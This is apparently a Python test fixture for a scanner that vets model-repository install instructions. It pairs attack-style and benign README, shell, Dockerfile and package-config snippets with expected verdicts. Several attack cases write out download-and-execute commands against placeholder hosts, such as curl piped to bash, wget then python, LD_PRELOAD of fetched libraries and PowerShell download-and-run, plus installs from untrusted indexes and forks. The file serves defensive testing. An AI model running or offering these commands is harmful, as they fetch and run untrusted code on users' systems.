"""Repos whose cards and install files are written the way attackers (and real vendors) write them.

Each case is ``(name, files, expected)``: the files of a repo (inert text: hosts are example
hosts or real hosts that are never contacted), and what hfvet must say about it under the
default policy. The comment beside each case says how the tool the text drives (pip, uv, conda,
docker, a shell) would behave, which is why the case is a threat or is benign. Exported as a
list so a shared corpus registry can take it as is.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Expected:
    repo: str  # the identity the trust policy sees
    verdict: str  # under policies/default.yaml
    rules: frozenset[str] = frozenset()  # finding rules that must be present
    absent: frozenset[str] = frozenset()  # finding rules that must not be present
    reasons: frozenset[str] = frozenset()  # policy reasons that must be present


THIRD = "canada-quant/DeepSeek-V4-Flash-W4A16"
VENDOR = "nvidia/DeepSeek-V4-Flash-NVFP4"
_RISKY = frozenset({"forked-code", "binary-download", "download-and-execute", "unknown-code-install",
                    "untrusted-package-index", "untrusted-container-image", "redirect-url"})


def _reject(*rules: str, reason: str = "third-party-dangerous-capability") -> Expected:
    return Expected(THIRD, "reject", frozenset(rules), reasons=frozenset({reason}))


ATTACKS: list[tuple[str, dict[str, str], Expected]] = [
    # pip runs VCS URLs as `git clone` then builds: git+ssh installs the same code as git+https.
    ("git+ssh fork", {"README.md": "```\npip install git+ssh://git@github.com/canada-quant/vllm.git@dsv4\n```\n"},
     _reject("forked-code")),
    # scp-like address: git clones it exactly like ssh://git@github.com/someone/sglang.
    ("scp-like clone",
     {"README.md": "```\ngit clone git@github.com:someone/sglang.git && pip install -e sglang/python\n```\n"},
     _reject("forked-code")),
    # git:// is the unauthenticated git protocol: anyone on the path can swap the code.
    ("git protocol clone", {"install.sh": "git clone git://github.com/someone/fast-infer\npip install ./fast-infer\n"},
     _reject("unknown-code-install")),
    # ssh:// URL in a requirements file: pip accepts `name @ git+ssh://...` (PEP 508 direct reference).
    ("ssh in requirements", {"requirements.txt": "torch\nvllm @ git+ssh://git@gitlab.com/someone/vllm.git@main\n"},
     _reject("forked-code")),
    # curl (so git and pip) removes dot segments before asking: this is someone/vllm, not NVIDIA's.
    ("dot segments", {"README.md": "```\npip install git+https://github.com/NVIDIA/../someone/vllm\n```\n"},
     _reject("forked-code")),
    ("encoded dot segments", {"README.md": "```\npip install git+https://github.com/NVIDIA/%2e%2e/someone/dsv4-tools\n```\n"},
     _reject("unknown-code-install")),
    # A fork under another name is still a fork: the owner is what is not upstream.
    ("renamed fork installed", {"README.md": "Run `pip install git+https://github.com/someone/fast-infer`\n"},
     _reject("unknown-code-install")),
    # HTML with entities: the browser (and the user's click) decodes &#x2F; to "/".
    ("html anchor with entities",
     {"README.md": '<a href="https&#x3A;&#x2F;&#x2F;github.com&#x2F;someone&#x2F;vllm?tab=readme&amp;ref=x">'
                   'patched vLLM</a>\n'},
     _reject("forked-code")),
    # Reference-style markdown link: the URL sits apart from the text that shows.
    ("reference link", {"README.md": "Use [our vLLM][v].\n\n[v]: https://github.com/someone/vllm\n"},
     _reject("forked-code")),
    # Autolink: <https://...> renders as a link.
    ("autolink", {"README.md": "Kernels: <https://github.com/someone/vllm-kernels>\n"},
     _reject("forked-code")),
    # PEP 508 direct reference to a wheel: pip installs that file, whatever name it claims.
    ("pep 508 wheel", {"requirements.txt": "vllm @ https://wheels.example.invalid/vllm-0.9-cp311-linux_x86_64.whl\n"},
     _reject("binary-download")),
    # --index-url replaces PyPI: every package (and dependency) comes from that server.
    ("index url", {"README.md": "```\npip install vllm --index-url https://pypi.example.invalid/simple\n```\n"},
     _reject("untrusted-package-index")),
    # -i is the same option; --trusted-host turns off TLS checks for the host.
    ("short index and trusted host",
     {"install.sh": "pip install -i http://203.0.113.9/simple --trusted-host 203.0.113.9 vllm\n"},
     _reject("untrusted-package-index")),
    # -f/--find-links: pip picks wheels from that page when their version is higher.
    ("find links", {"install.sh": "pip install -f https://wheels.example.invalid/links.html sglang\n"},
     _reject("untrusted-package-index")),
    # uv pip install takes pip's index options.
    ("uv pip index",
     {"README.md": "```\nuv pip install --extra-index-url https://pypi.example.invalid/simple vllm\n```\n"},
     _reject("untrusted-package-index")),
    # uv add --index adds the index to pyproject.toml: every later sync uses it.
    ("uv add index", {"README.md": "```\nuv add --index https://pypi.example.invalid/simple vllm\n```\n"},
     _reject("untrusted-package-index")),
    # uv add of a git URL pins a fork as a dependency.
    ("uv add fork", {"README.md": "```\nuv add git+https://github.com/someone/vllm\n```\n"},
     _reject("forked-code")),
    # pipx installs and puts the fork's console scripts on PATH.
    ("pipx fork", {"README.md": "```\npipx install git+https://github.com/someone/sglang-cli\n```\n"},
     _reject("forked-code")),
    # pip and uv read their index from the environment and from config files as well.
    ("index from environment", {"Dockerfile": "FROM python:3.11\nENV PIP_INDEX_URL=https://pypi.example.invalid/simple\n"
                                               "RUN pip install vllm\n"},
     _reject("untrusted-package-index")),
    ("pip config set", {"install.sh": "pip config set global.extra-index-url https://pypi.example.invalid/simple\n"
                                      "pip install vllm\n"},
     _reject("untrusted-package-index")),
    ("pip.conf shipped", {"pip.conf": "[global]\nindex-url = https://pypi.example.invalid/simple\n"},
     _reject("untrusted-package-index")),
    ("uv index in pyproject", {"pyproject.toml": '[project]\nname = "x"\n\n[[tool.uv.index]]\nname = "fast"\n'
                                                 'url = "https://pypi.example.invalid/simple"\n'},
     _reject("untrusted-package-index")),
    # -iURL: pip's short options take their value attached.
    ("attached short index", {"install.sh": "pip install -ihttps://pypi.example.invalid/simple vllm\n"},
     _reject("untrusted-package-index")),
    # conda -c: packages (with install scripts and binaries) come from that channel first.
    ("conda channel", {"README.md": "```\nconda install -c canada-quant vllm\n```\n"},
     _reject("untrusted-package-index")),
    ("conda channel long", {"install.sh": "mamba install --channel=canada-quant/label/dev flash-attn\n"},
     _reject("untrusted-package-index")),
    # A shipped .condarc puts the channel ahead of conda-forge for every later install.
    ("condarc channel", {".condarc": "channels:\n  - canada-quant\n  - conda-forge\n"},
     _reject("untrusted-package-index")),
    # An image from someone's registry namespace is their whole userland.
    ("docker image", {"README.md": "```\ndocker run --gpus all ghcr.io/someone/vllm:dsv4\n```\n"},
     _reject("untrusted-container-image")),
    # docker pull from a private registry: its operator decides what the tag holds.
    ("docker pull registry", {"install.sh": "docker pull registry.example.invalid:5000/dsv4/vllm:latest\n"},
     _reject("untrusted-container-image")),
    # A shortener hides where pip goes: the redirect target can change after the vet.
    ("shortener pip", {"README.md": "```\npip install https://bit.ly/3dsv4kern\n```\n"},
     _reject("redirect-url")),
    ("paste requirements", {"README.md": "```\npip install -r https://gist.githubusercontent.com/someone/0a1b/raw/req.txt\n```\n"},
     _reject("redirect-url")),
    ("shortener download run", {"setup.sh": "curl -L https://tinyurl.com/dsv4fix -o fix.py && python fix.py\n"},
     _reject("download-and-execute", reason="critical-finding")),
    # The dynamic loader maps LD_PRELOAD libraries into every process it starts.
    ("ld_preload download",
     {"README.md": "```\ncurl -L -o libfp8.so https://example.invalid/libfp8.so\n"
                   "LD_PRELOAD=./libfp8.so vllm serve .\n```\n"},
     _reject("download-and-execute", reason="critical-finding")),
    ("export ld_preload",
     {"run.sh": "wget https://example.invalid/dl/libmoe.so -O /tmp/libmoe.so\nexport LD_PRELOAD=/tmp/libmoe.so\n"},
     _reject("download-and-execute", reason="critical-finding")),
    # wget then run with python: the script runs with the user's rights.
    ("wget then python", {"run.sh": "wget https://example.invalid/patch_vllm.py && python patch_vllm.py\n"},
     _reject("download-and-execute", reason="critical-finding")),
    # Docker ADD fetches the URL into the image; ENV LD_PRELOAD makes every process load it.
    ("dockerfile add preload",
     {"Dockerfile": "FROM vllm/vllm-openai:v0.9.1\nADD https://example.invalid/libattn.so /usr/lib/libattn.so\n"
                    "ENV LD_PRELOAD=/usr/lib/libattn.so\n"},
     _reject("download-and-execute", reason="critical-finding")),
    # ARG defaults are substituted into later instructions at build time.
    ("dockerfile arg add run",
     {"Dockerfile": "FROM ubuntu:24.04\nARG TOOL_URL=https://example.invalid/tools/setup.run\n"
                    "ADD ${TOOL_URL} /tmp/setup.run\nRUN chmod +x /tmp/setup.run && /tmp/setup.run\n"},
     _reject("download-and-execute", reason="critical-finding")),
    ("dockerfile arg wheel",
     {"Dockerfile": "FROM vllm/vllm-openai:v0.9.1\n"
                    "ARG WHEEL=https://github.com/someone/kernels/releases/download/v1/k-1.0-cp311-linux_x86_64.whl\n"
                    "RUN pip install $WHEEL\n"},
     _reject("binary-download")),
    ("dockerfile run curl",
     {"Dockerfile": "FROM ubuntu:24.04\nARG U=https://example.invalid/i.sh\nRUN curl -fsSL $U | bash\n"},
     _reject("download-and-execute", reason="critical-finding")),
    # ADD of a git URL clones the repo into the image.
    ("dockerfile add git", {"Dockerfile": "FROM ubuntu:24.04\nADD https://github.com/someone/vllm.git /src/vllm\n"},
     _reject("forked-code")),
    # ADD's JSON form fetches the same way.
    ("dockerfile add json", {"Dockerfile": 'FROM ubuntu:24.04\nADD ["https://example.invalid/a.sh", "/opt/a.sh"]\n'
                                           "RUN sh /opt/a.sh\n"},
     _reject("download-and-execute", reason="critical-finding")),
    # PowerShell variables carry the URL into Invoke-WebRequest, then the call operator runs it.
    ("powershell variable",
     {"install.ps1": '$u = "https://example.invalid/x.exe"\niwr $u -OutFile x.exe\n& .\\x.exe\n'},
     _reject("download-and-execute", reason="critical-finding")),
    # A shell variable set earlier and used by the download that runs.
    ("shell variable url", {"install.sh": "URL=https://example.invalid/k.run\nwget \"$URL\" -O k.run\nsh k.run\n"},
     _reject("download-and-execute", reason="critical-finding")),
    # Declarations with no install command in sight (issue 24): the tool that reads the file fetches the source.
    # pip/uv build the project in an isolated env holding [build-system] requires first.
    ("build requires fork", {"pyproject.toml": '[project]\nname = "x"\n[build-system]\n'
                                               'requires = ["setuptools", "h @ git+https://github.com/someone/vllm"]\n'},
     _reject("forked-code")),
    # conda env create -f searches the file's channels before the defaults.
    ("environment channel", {"environment.yml": "name: x\nchannels:\n  - canada-quant\ndependencies:\n  - vllm\n"},
     _reject("untrusted-package-index")),
    # git clone --recursive clones every submodule url.
    ("submodule fork", {".gitmodules": '[submodule "v"]\n\tpath = v\n\turl = https://github.com/someone/vllm.git\n'},
     _reject("forked-code")),
    # pyxis hands REGISTRY#IMAGE to enroot: the job runs in that registry's image.
    ("sbatch pyxis image",
     {"train.sbatch": "#!/bin/bash\n#SBATCH --container-image=registry.example.invalid\\#t/x:1\n"},
     _reject("untrusted-container-image")),
]


BENIGN: list[tuple[str, dict[str, str], Expected]] = [
    # NIM: NVIDIA's inference microservice images live in nvcr.io/nim (NGC registry). The scanner
    # reports the image (it is no runtime's upstream); the policy's `sources` say nvidia owns it.
    ("nim instructions", {"README.md": "```\nexport NGC_API_KEY=<key>\necho \"$NGC_API_KEY\" | docker login nvcr.io "
                          "--username '$oauthtoken' --password-stdin\ndocker run -it --rm --gpus all -e NGC_API_KEY "
                          "-p 8000:8000 nvcr.io/nim/deepseek-ai/deepseek-v4-flash:1.0.0\n```\n"},
     Expected(VENDOR, "approve", rules=frozenset({"untrusted-container-image"}),
              absent=_RISKY - {"untrusted-container-image"})),
    # NGC container plus NVIDIA's PyPI index for TensorRT-LLM.
    ("ngc container and index", {"README.md": "```\ndocker pull nvcr.io/nvidia/tensorrt-llm/release:1.0.0\n"
                                 "pip install --extra-index-url https://pypi.nvidia.com tensorrt-llm\n```\n"},
     Expected(VENDOR, "approve", absent=_RISKY)),
    # The vendor's own vLLM fork: the policy lists github.com/NVIDIA/* as nvidia's source.
    ("vendor vllm fork", {"README.md": "```\npip install git+https://github.com/NVIDIA/vllm.git@nvfp4-dsv4\n```\n"},
     Expected(VENDOR, "approve", rules=frozenset({"forked-code"}))),
    # A third party pointing at NVIDIA's registry or fork is still reviewed, never rejected.
    ("third party uses nim",
     {"README.md": "```\ndocker run --gpus all nvcr.io/nim/meta/llama-3.1-8b-instruct:1.8\n```\n"},
     Expected(THIRD, "review", reasons=frozenset({"third-party"}))),
    ("third party uses vendor fork", {"README.md": "`pip install git+https://github.com/NVIDIA/vllm@nvfp4`\n"},
     Expected(THIRD, "review", reasons=frozenset({"third-party"}))),
    ("third party uses amd rocm fork", {"README.md": "```\npip install git+https://github.com/ROCm/vllm.git\n```\n"},
     Expected(THIRD, "review", rules=frozenset({"forked-code"}), reasons=frozenset({"third-party"}))),
    # Upstream installs and unpinned requirements resolve on PyPI: nothing beyond PyPI's own risk.
    ("upstream installs", {"README.md": "```\npip install vllm\npip install -U \"sglang[all]>=0.5\"\nuv pip install "
                           "transformers accelerate\nconda install -c conda-forge -c pytorch faiss-gpu\n"
                           "docker run --gpus all vllm/vllm-openai:latest --model x\n```\n",
                           "requirements.txt": "torch\ntransformers\naccelerate\nsafetensors>=0.4\n"},
     Expected(VENDOR, "approve", absent=_RISKY)),
    ("third party upstream installs", {"README.md": "```\npip install vllm --extra-index-url "
                                       "https://download.pytorch.org/whl/cu128\n"
                                       "pip install git+https://github.com/huggingface/transformers\n```\n",
                                       "requirements.txt": "vllm\nflash-attn\n"},
     Expected(THIRD, "review", absent=_RISKY, reasons=frozenset({"third-party"}))),
    # Config keys that merely share a name with pip's are not package sources.
    ("yaml index keys", {"config.yaml": "default_index: 0\ntrusted_host: false\n",
                         ".condarc": "channels: [conda-forge, nvidia]\nchannel_priority: strict\n"},
     Expected(VENDOR, "approve", absent=_RISKY)),
    # Declarations naming only official sources: conda-forge/nvidia channels, the PyTorch index, Docker Hub library.
    ("official declarations", {"environment.yml": "name: x\nchannels: [conda-forge, nvidia]\ndependencies: [pip]\n",
                               "pyproject.toml": ('[[tool.uv.index]]\nname = "pt"\n'
                                                  'url = "https://download.pytorch.org/whl/cu128"\n'),
                               "job.slurm": "#SBATCH --container-image=ubuntu:24.04\n"},
     Expected(VENDOR, "approve", absent=_RISKY)),
    # The PyTorch wheel index in pip.conf is an upstream index.
    ("official pip.conf", {"pip.conf": "[global]\nextra-index-url = https://download.pytorch.org/whl/cu128\n"},
     Expected(VENDOR, "approve", absent=_RISKY)),
    # Papers, arXiv and upstream code in prose are references, not installs.
    ("paper links", {"README.md": "[paper](https://arxiv.org/abs/2412.19437) · <https://github.com/vllm-project/vllm> "
                     "· [code][c]\n\n[c]: https://github.com/deepseek-ai/DeepSeek-V3\n"
                     '<a href="https://github.com/NVIDIA/Model-Optimizer">ModelOpt</a>\n'},
     Expected(VENDOR, "approve", absent=_RISKY)),
    # A third party's own research code, linked in prose and never installed, is a link.
    ("third party links its code", {"README.md": "Training code: https://github.com/canada-quant/dsv4-recipes\n"},
     Expected(THIRD, "review", absent=_RISKY, reasons=frozenset({"third-party"}))),
    # A short link in prose (a blog post) is not an install.
    ("short link in prose", {"README.md": "Announcement: https://t.co/abc123\n"},
     Expected(VENDOR, "approve", absent=_RISKY)),
]

CASES = ATTACKS + BENIGN
